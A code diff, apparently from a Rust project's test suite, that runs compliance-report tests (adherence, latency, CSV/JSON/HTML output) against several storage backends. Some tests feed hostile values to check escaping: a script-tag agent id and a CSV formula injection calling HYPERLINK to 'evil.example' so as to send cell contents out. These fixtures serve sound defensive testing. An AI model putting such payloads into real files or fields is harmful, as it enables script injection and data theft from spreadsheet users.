@@ -5,11 +5,14 @@ use chrono::{DateTime, Duration, TimeZone, Utc};
 
 use super::*;
 use crate::domain::{AgentState, Origin};
+use crate::store::Backend;
 use crate::store::attempts::{self, AttemptRow};
 use crate::store::history::{self, NewInterval};
 use crate::store::roster::{self, RosterEntry};
-use crate::store::testing::temp_store;
+use crate::store::testing::backends;
+use crate::store::testing::temp_store_on;
 use crate::store::{Done, Store, to_ms};
+use rstest_reuse::apply;
 
 /// The exception threshold of the fixtures: two minutes.
 const THRESHOLD: std::time::Duration = std::time::Duration::from_secs(120);
@@ -85,8 +88,8 @@ async fn enter(store: &Store, agent: &str, state: AgentState, at: DateTime<Utc>)
 ///
 /// The roster names a1 (Ada Lovelace, team t_1 Care) and a3 (Grace Hopper, no team);
 /// a2 was never listed.
-async fn fixture() -> (Store, tempfile::TempDir) {
-    let (store, dir) = temp_store().await;
+async fn fixture(backend: Backend) -> (Store, tempfile::TempDir) {
+    let (store, dir) = temp_store_on(backend).await;
     enter(&store, "a1", AgentState::NotReady, minutes(-30)).await;
     enter(&store, "a1", AgentState::Ready, minutes(15)).await;
     enter(&store, "a1", AgentState::Paused, minutes(45)).await;
@@ -210,9 +213,10 @@ async fn build(store: &Store, now: DateTime<Utc>) -> Report {
         .unwrap()
 }
 
+#[apply(backends)]
 #[tokio::test]
-async fn every_number_of_the_report_matches_the_hand_computed_fixture() {
-    let (store, _dir) = fixture().await;
+async fn every_number_of_the_report_matches_the_hand_computed_fixture(backend: Backend) {
+    let (store, _dir) = fixture(backend).await;
     let report = build(&store, minutes(120)).await;
     let ids: Vec<_> = report.agents.iter().map(|a| a.agent_id.as_str()).collect();
     assert_eq!(
@@ -282,9 +286,10 @@ async fn every_number_of_the_report_matches_the_hand_computed_fixture() {
     assert_eq!(a3.idle_seconds, 0.0);
 }
 
+#[apply(backends)]
 #[tokio::test]
-async fn open_intervals_count_up_to_now_when_now_is_inside_the_window() {
-    let (store, _dir) = fixture().await;
+async fn open_intervals_count_up_to_now_when_now_is_inside_the_window(backend: Backend) {
+    let (store, _dir) = fixture(backend).await;
     let report = build(&store, minutes(55)).await;
     let a1 = &report.agents[0];
     assert_eq!(a1.seconds_paused, 600.0, "09:45 to now (09:55)");
@@ -292,9 +297,10 @@ async fn open_intervals_count_up_to_now_when_now_is_inside_the_window() {
     assert_eq!(report.agents[1].seconds_idle, 300.0, "09:50 to now");
 }
 
+#[apply(backends)]
 #[tokio::test]
-async fn p95_is_the_nearest_rank_on_an_eleven_value_list() {
-    let (store, _dir) = temp_store().await;
+async fn p95_is_the_nearest_rank_on_an_eleven_value_list(backend: Backend) {
+    let (store, _dir) = temp_store_on(backend).await;
     let mut tx = store.begin_write().await.unwrap();
     // Sorted: 1..=10 then 100; ⌈0.95 × 11⌉ = 11, so the p95 is the largest value.
     for (i, latency) in [5, 1, 9, 100, 3, 7, 2, 8, 4, 6, 10].into_iter().enumerate() {
@@ -326,9 +332,10 @@ async fn p95_is_the_nearest_rank_on_an_eleven_value_list() {
     assert_eq!(report.agents[1].latency_p95_ms, Some(20));
 }
 
+#[apply(backends)]
 #[tokio::test]
-async fn csv_parses_back_with_one_row_per_agent_and_empty_unknowns() {
-    let (store, _dir) = fixture().await;
+async fn csv_parses_back_with_one_row_per_agent_and_empty_unknowns(backend: Backend) {
+    let (store, _dir) = fixture(backend).await;
     let report = build(&store, minutes(120)).await;
     let text = render(&store, &report, Format::Csv).await.text();
     let mut reader = csv::Reader::from_reader(text.as_bytes());
@@ -356,9 +363,10 @@ async fn csv_parses_back_with_one_row_per_agent_and_empty_unknowns() {
     assert_eq!(field(&rows[1], "violation_frequency"), "");
 }
 
+#[apply(backends)]
 #[tokio::test]
-async fn a_time_zone_renders_the_window_in_local_time() {
-    let (store, _dir) = fixture().await;
+async fn a_time_zone_renders_the_window_in_local_time(backend: Backend) {
+    let (store, _dir) = fixture(backend).await;
     let zone = parse_zone("America/New_York").unwrap();
     let report = Report::build(
         store.reader(),
@@ -381,9 +389,10 @@ async fn a_time_zone_renders_the_window_in_local_time() {
     );
 }
 
+#[apply(backends)]
 #[tokio::test]
-async fn json_has_the_window_the_agents_and_every_attempt_of_the_window() {
-    let (store, _dir) = fixture().await;
+async fn json_has_the_window_the_agents_and_every_attempt_of_the_window(backend: Backend) {
+    let (store, _dir) = fixture(backend).await;
     let report = build(&store, minutes(120)).await;
     let text = render(&store, &report, Format::Json).await.text();
     let json: serde_json::Value = serde_json::from_str(&text).unwrap();
@@ -409,9 +418,10 @@ async fn json_has_the_window_the_agents_and_every_attempt_of_the_window() {
     );
 }
 
+#[apply(backends)]
 #[tokio::test]
-async fn html_has_one_bar_group_per_agent_and_escapes_a_hostile_agent_id() {
-    let (store, _dir) = fixture().await;
+async fn html_has_one_bar_group_per_agent_and_escapes_a_hostile_agent_id(backend: Backend) {
+    let (store, _dir) = fixture(backend).await;
     enter(
         &store,
         "<script>alert('x')</script>",
@@ -437,9 +447,10 @@ async fn html_has_one_bar_group_per_agent_and_escapes_a_hostile_agent_id() {
     );
 }
 
+#[apply(backends)]
 #[tokio::test]
-async fn a_large_attempt_log_reaches_the_sink_in_bounded_chunks() {
-    let (store, _dir) = temp_store().await;
+async fn a_large_attempt_log_reaches_the_sink_in_bounded_chunks(backend: Backend) {
+    let (store, _dir) = temp_store_on(backend).await;
     let mut tx = store.begin_write().await.unwrap();
     for i in 0..3_000 {
         let row = attempt(
@@ -499,11 +510,11 @@ fn windows_must_be_ordered_and_at_most_366_days() {
 ///   (Without the intervals from before the window, IDLE from 08:59:30 would look like
 ///   an exception opening at 09:01:30.)
 /// - a2 has no schedule: its adherence is unknown.
-async fn adherence_fixture() -> (Store, tempfile::TempDir) {
+async fn adherence_fixture(backend: Backend) -> (Store, tempfile::TempDir) {
     use crate::domain::BreakWindow;
     use crate::domain::adherence::Shift;
     use crate::store::schedules::{self, BreakSource, StoredShift};
-    let (store, dir) = fixture().await;
+    let (store, dir) = fixture(backend).await;
     enter(&store, "a5", AgentState::NotReady, minutes(-10)).await;
     enter(
         &store,
@@ -543,9 +554,10 @@ async fn adherence_fixture() -> (Store, tempfile::TempDir) {
     (store, dir)
 }
 
+#[apply(backends)]
 #[tokio::test]
-async fn adherence_matches_the_hand_computed_fixture_in_every_format() {
-    let (store, _dir) = adherence_fixture().await;
+async fn adherence_matches_the_hand_computed_fixture_in_every_format(backend: Backend) {
+    let (store, _dir) = adherence_fixture(backend).await;
     let report = build(&store, minutes(120)).await;
     let ids: Vec<_> = report.agents.iter().map(|a| a.agent_id.as_str()).collect();
     assert_eq!(ids, ["a1", "a2", "a3", "a5"]);
@@ -625,11 +637,12 @@ fn durations_are_hours_minutes_and_seconds() {
     assert_eq!(hms(90_000.0), "25:00:00");
 }
 
+#[apply(backends)]
 #[tokio::test]
-async fn an_agent_first_seen_at_14_00_is_judged_on_the_afternoon_in_every_format() {
+async fn an_agent_first_seen_at_14_00_is_judged_on_the_afternoon_in_every_format(backend: Backend) {
     use crate::domain::adherence::Shift;
     use crate::store::schedules::{self, BreakSource, StoredShift};
-    let (store, _dir) = adherence_fixture().await;
+    let (store, _dir) = adherence_fixture(backend).await;
     // a6 works 09:00-17:00; wfmd first saw it at 14:00, READY ever since. The report
     // covers the whole day and is made at 16:00.
     enter(&store, "a6", AgentState::Ready, minutes(300)).await;
@@ -715,9 +728,10 @@ fn text_cells_that_start_a_formula_get_a_quote_and_others_stay() {
     }
 }
 
+#[apply(backends)]
 #[tokio::test]
-async fn csv_neutralises_agent_ids_a_spreadsheet_would_run_as_formulas() {
-    let (store, _dir) = fixture().await;
+async fn csv_neutralises_agent_ids_a_spreadsheet_would_run_as_formulas(backend: Backend) {
+    let (store, _dir) = fixture(backend).await;
     for id in FORMULA_IDS {
         enter(&store, id, AgentState::Idle, minutes(10)).await;
     }
@@ -752,9 +766,10 @@ async fn csv_neutralises_agent_ids_a_spreadsheet_would_run_as_formulas() {
     }
 }
 
+#[apply(backends)]
 #[tokio::test]
-async fn csv_has_name_and_team_as_the_last_columns_empty_when_unknown() {
-    let (store, _dir) = fixture().await;
+async fn csv_has_name_and_team_as_the_last_columns_empty_when_unknown(backend: Backend) {
+    let (store, _dir) = fixture(backend).await;
     let report = build(&store, minutes(120)).await;
     let text = render(&store, &report, Format::Csv).await.text();
     let mut reader = csv::Reader::from_reader(text.as_bytes());
@@ -778,9 +793,10 @@ async fn csv_has_name_and_team_as_the_last_columns_empty_when_unknown() {
     assert_eq!(tail(&rows[2]), ["Grace Hopper", "", ""]);
 }
 
+#[apply(backends)]
 #[tokio::test]
-async fn csv_neutralises_names_and_teams_a_spreadsheet_would_run_as_formulas() {
-    let (store, _dir) = fixture().await;
+async fn csv_neutralises_names_and_teams_a_spreadsheet_would_run_as_formulas(backend: Backend) {
+    let (store, _dir) = fixture(backend).await;
     let hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
     name_agents(&store, &[named("a1", hyperlink, Some(("+t_1", "@SUM(1)")))]).await;
     let report = build(&store, minutes(120)).await;
@@ -798,9 +814,10 @@ async fn csv_neutralises_names_and_teams_a_spreadsheet_would_run_as_formulas() {
     );
 }
 
+#[apply(backends)]
 #[tokio::test]
-async fn json_agents_carry_name_team_id_and_team() {
-    let (store, _dir) = fixture().await;
+async fn json_agents_carry_name_team_id_and_team(backend: Backend) {
+    let (store, _dir) = fixture(backend).await;
     let report = build(&store, minutes(120)).await;
     let text = render(&store, &report, Format::Json).await.text();
     let json: serde_json::Value = serde_json::from_str(&text).unwrap();
@@ -856,9 +873,12 @@ fn page_order(html: &str) -> Vec<String> {
     order
 }
 
+#[apply(backends)]
 #[tokio::test]
-async fn html_groups_by_team_and_lists_worst_adherence_first_with_unknown_figures_last() {
-    let (store, _dir) = temp_store().await;
+async fn html_groups_by_team_and_lists_worst_adherence_first_with_unknown_figures_last(
+    backend: Backend,
+) {
+    let (store, _dir) = temp_store_on(backend).await;
     let care = Some(("t_1", "Care"));
     let billing = Some(("t_2", "billing"));
     let report = report_of(
@@ -917,9 +937,10 @@ async fn html_groups_by_team_and_lists_worst_adherence_first_with_unknown_figure
     assert!(html.contains("Care <span class=\"id\">t_1</span> · 5 agents · mean adherence 69.0%"));
 }
 
+#[apply(backends)]
 #[tokio::test]
-async fn html_shows_names_with_ids_and_escapes_a_hostile_name_and_team() {
-    let (store, _dir) = temp_store().await;
+async fn html_shows_names_with_ids_and_escapes_a_hostile_name_and_team(backend: Backend) {
+    let (store, _dir) = temp_store_on(backend).await;
     let report = report_of(
         vec![
             summary(
@@ -943,9 +964,10 @@ async fn html_shows_names_with_ids_and_escapes_a_hostile_name_and_team() {
     assert!(html.contains("<td>Ada Lovelace<br><span class=\"id\">u_02</span></td>"));
 }
 
+#[apply(backends)]
 #[tokio::test]
-async fn html_title_and_heading_name_the_window_in_the_chosen_time_zone() {
-    let (store, _dir) = temp_store().await;
+async fn html_title_and_heading_name_the_window_in_the_chosen_time_zone(backend: Backend) {
+    let (store, _dir) = temp_store_on(backend).await;
     let berlin = report_of(vec![], Some(parse_zone("Europe/Berlin").unwrap()));
     let html = render(&store, &berlin, Format::Html).await.text();
     let expected = "Compliance report 2026-11-20 10:00 – 2026-11-20 11:00 (Europe/Berlin)";
@@ -972,9 +994,10 @@ fn the_window_label_shows_seconds_only_when_an_end_has_them() {
     );
 }
 
+#[apply(backends)]
 #[tokio::test]
-async fn html_tables_take_the_page_width_with_fixed_shares_and_wrap_long_names() {
-    let (store, _dir) = temp_store().await;
+async fn html_tables_take_the_page_width_with_fixed_shares_and_wrap_long_names(backend: Backend) {
+    let (store, _dir) = temp_store_on(backend).await;
     let long = "Maximiliana-Theodora Wolkenstein-Rodenegg von und zu Hohenlohe-Schillingsfürst";
     let report = report_of(
         vec![summary("u_01", Some(long), Some(("t_1", long)), Some(1.0))],
